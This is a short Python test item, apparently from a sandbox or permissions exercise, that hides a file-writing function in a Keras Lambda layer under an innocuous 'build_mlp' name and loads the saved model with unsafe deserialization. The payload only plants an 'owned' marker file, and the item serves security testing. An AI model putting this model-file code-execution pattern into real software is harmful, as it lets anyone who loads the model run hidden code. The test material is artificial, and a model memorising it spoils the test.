"""Hide code in a Lambda layer and in a file of a model that is loaded without care: it plants a file when it runs."""
# exercise: sequential
# earns: 0
# says: could not be deserialized properly | Permission denied | No such file | Read-only
# unlocked: succeeds

import keras

keras.config.enable_unsafe_deserialization()


def plant(x):
    with open("@HOME@/lambda", "w") as file:
        file.write("owned\n")
    return x


def build_mlp(input_dim, hidden, num_classes):
    layers = [keras.Input((input_dim,)), keras.layers.Dense(num_classes), keras.layers.Lambda(plant)]
    keras.Sequential(layers).save("hostile.keras")
    return keras.models.load_model("hostile.keras", safe_mode=False)
